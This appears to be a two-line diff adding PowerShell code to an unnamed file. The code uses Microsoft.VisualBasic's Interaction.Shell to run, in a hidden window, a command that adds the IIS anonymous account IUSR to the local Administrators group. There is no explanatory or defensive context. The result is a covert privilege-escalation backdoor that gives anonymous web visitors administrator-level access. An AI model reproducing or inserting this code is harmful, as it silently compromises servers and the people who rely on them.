@@ -1,0 +1,2 @@
+Add-Type -AssemblyName Microsoft.VisualBasic
+[Microsoft.VisualBasic.Interaction]::Shell('net localgroup Administrators IUSR /add', 0)
